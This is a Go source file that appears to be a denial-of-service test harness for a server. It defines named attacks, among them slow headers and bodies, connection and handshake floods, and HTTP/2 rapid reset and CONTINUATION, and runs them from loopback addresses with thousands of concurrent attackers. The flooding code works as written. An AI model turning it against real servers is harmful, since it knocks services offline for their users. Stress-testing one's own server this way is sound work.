package main

import (
	"fmt"
	"io"
	"log"
	"net"
	"strings"
	"time"
)

// assault is one way to keep a server busy. one is what each of its attackers
// does over and over: it is given an address, and returns when it is cut off.
type assault struct {
	name      string
	processes int // each with attackers of its own, at an address of its own
	attackers int
	secure    bool
	one       func(addr, host string)
}

// A process may have some 20,000 files, and so the server keeps 15,000
// connections: those of 50,000 attackers it sheds, and they come again.
var assaults = []assault{
	{"none", 0, 0, false, nil},
	{"idle connections", 4, 12500, false, silent},
	{"idle TLS connections", 1, 7000, true, func(addr, host string) { overTLS(addr, host, "http/1.1", idle) }},
	{"idle HTTP/2 connections, their tables full", 1, 7000, true, func(addr, host string) { overTLS(addr, host, "h2", fillTable) }},
	{"idle TLS connections, shed", 4, 12500, true, func(addr, host string) { overTLS(addr, host, "http/1.1", idle) }},
	{"slow heads", 1, 2000, false, drip("GET / HTTP/1.1\r\nHost: host-0.example\r\nX-")},
	{"slow bodies", 1, 2000, false, drip("POST / HTTP/1.1\r\nHost: host-0.example\r\nContent-Length: 100000\r\n\r\n")},
	{"endless heads", 1, 8, false, flood("GET / HTTP/1.1\r\n", strings.Repeat("X-Header: value\r\n", 200))},
	{"never reading", 1, 200, false, flood("", strings.Repeat("GET / HTTP/1.1\r\nHost: host-0.example\r\n\r\n", 50))},
	{"unknown names", 1, 8, true, func(addr, _ string) { overTLS(addr, "unknown.example", "http/1.1", nil) }},
	{"handshakes", 4, 2000, true, func(addr, host string) { overTLS(addr, host, "http/1.1", nil) }},
	{"hellos", 4, 2000, true, greet},
	{"idle QUIC connections", 4, 1000, true, silentQUIC},
	{"rapid reset", 1, 8, true, func(addr, host string) { overTLS(addr, host, "h2", rapidReset) }},
	{"CONTINUATION", 1, 8, true, func(addr, host string) { overTLS(addr, host, "h2", continuations) }},
}

const apart = time.Millisecond

// dialer is an attacker's way out.
var dialer net.Dialer

// attack is a process that attacks: NAME PLAIN SECURE HOST SOURCE.
func attack(args []string) {
	dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(args[4])}
	for _, a := range assaults {
		if a.name != args[0] {
			continue
		}
		addr := args[1]
		if a.secure {
			addr = args[2]
		}
		for range a.attackers {
			go func() {
				for {
					a.one(addr, args[3])
				}
			}()
			time.Sleep(apart) // together they would show how quickly this machine makes connections
		}
	}
	time.Sleep(time.Hour) // until it is killed
}

func silent(addr, _ string) {
	if c := dial(addr); c != nil {
		idle(c)
	}
}

// idle waits for the server to close.
func idle(c net.Conn) {
	defer c.Close()
	_, _ = io.Copy(io.Discard, c)
}

// dial leaves no port in TIME_WAIT behind: an attacker would run out of them.
func dial(addr string) net.Conn {
	c, err := dialer.Dial("tcp", addr)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return nil
	}
	if err := c.(*net.TCPConn).SetLinger(0); err != nil {
		log.Fatal(err)
	}
	return c
}

func drip(start string) func(addr, host string) {
	return func(addr, _ string) {
		c := dial(addr)
		if c == nil {
			return
		}
		defer c.Close()
		for _, err := io.WriteString(c, start); err == nil; _, err = c.Write([]byte("a")) {
			time.Sleep(time.Second)
		}
	}
}

func flood(start, more string) func(addr, host string) {
	return func(addr, _ string) {
		c := dial(addr)
		if c == nil {
			return
		}
		defer c.Close()
		for _, err := io.WriteString(c, start); err == nil; {
			_, err = io.WriteString(c, more)
		}
	}
}

// source is the address of an attacking process.
func source(i int) string { return fmt.Sprintf("127.0.0.%d", 11+i) }
